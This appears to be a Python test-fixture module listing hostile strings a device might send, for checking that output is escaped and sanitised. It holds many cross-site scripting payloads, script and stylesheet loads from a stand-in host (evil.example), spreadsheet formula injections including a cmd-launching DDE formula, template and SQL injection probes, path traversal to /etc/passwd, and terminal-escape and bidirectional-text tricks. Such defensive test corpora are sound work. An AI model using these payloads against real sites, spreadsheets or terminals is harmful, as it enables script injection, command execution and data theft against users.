"""Hostile text a device can send: script injection, spreadsheet formulas, control characters, direction tricks, bulk."""

from __future__ import annotations

_RUN = (
    "alert(1)",
    "confirm`1`",
    "prompt(document.domain)",
    "eval(atob('YWxlcnQoMSk='))",
    "import('//evil.example/x.js')",
)
_TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", '<svg><a xlink:href="javascript:{}"><text>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></mglyph></math>", "<body onload={}>", '<iframe src="javascript:{}">',
    '<iframe srcdoc="<script>{}</script>">', '<object data="javascript:{}">', '<embed src="javascript:{}">', '<a href="javascript:{}">x</a>',
    '<a href="JaVaScRiPt:{}">x</a>', '<a href="java\tscript:{}">x</a>', '<form action="javascript:{}"><button>x</button></form>',
    "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>x</marquee>",
    "<template><script>{}</script></template>", '<noscript><p title="</noscript><img src=x onerror={}>">', '"><script>{}</script>',
    "'><script>{}</script>", '" onmouseover={} x="', "' onmouseover={} x='", "`onmouseover={}`", "javascript:{}", "{{{{{}}}}}", "{{% {} %}}",
)  # fmt: skip
_ALONE = (
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>body{background:url(//evil.example/x)}</style>", "</style><style>@import '//evil.example/x.css'</style>", "<!--", "-->", "<![CDATA[", "]]>",
    "<plaintext>", "<xmp>", "</body></html>", "</main></section></article>", "<table><tr><td>", "</td></tr></table>", "<title>x</title>", "&lt;script&gt;",
    "&#60;script&#62;", "&amp;#x3c;script>", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-", "\u00bcscript\u00be",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x",
    "http://evil.example/", "https://evil.example/<script>", "http://10.0.0.1@evil.example/", "vbscript:msgbox(1)", "file:///etc/passwd", "../../etc/cron.d/x",
    "/etc/passwd", "..\\..\\windows\\system32", "CON", "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{# x #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%s%s%n", "%", "100 %", "{0}", "{name}", "{}", "$(touch x)", "`touch x`", "; DROP TABLE runs;--", "' OR 1=1--",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", '"=1+1', "'=1+1", "''=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u22121", "\ufe661",
    "x;=1+1", "x; =1+1;y", 'x;"=1+1', ",=1+1", "x\n=1+1", "\ufeff=1+1", "\u200b=1+1", "|calc",
)  # fmt: skip
_CONTROLS = (
    "\x1b[2J\x1b[1;1H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x00", "a\x00b", "a\x08\x08b", "a\rb", "a\nb", "a\r\nb",
    'ok\n{"event": "forged"}', "\x07", "\x7f", "\x85", "\u2028", "\u2029", "\u202egnp.exe", "\u2066x\u2069", "\u200e\u200f", "\u200b\u200c\u200d", "\ufeff", "\u00ad",
    "\ue000", "\ufffe", "\U000e0041", "\U0001f3f4", "\ud800", "\udc80\udcff", "\ud83d\ude00", "e\u0301" * 40, "Z" + "\u0334" * 300, "\u05d0\u05d1\u05d2 123", "\u0627\u0644",
    "\u6d77\u5eb7\u5a01\u89c6", "M\u00fcnchen", "\u00a0", " ", "   ", "A" * 4096, "<" * 70_000, "&" * 300, '"' * 300, "\u202e" * 300,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(tag.format(run) for tag in _TAGS for run in _RUN[:2]),
            *(_TAGS[0].format(run) for run in _RUN),
            *_ALONE,
            *_FORMULAS,
            *_CONTROLS,
        )
    )
)
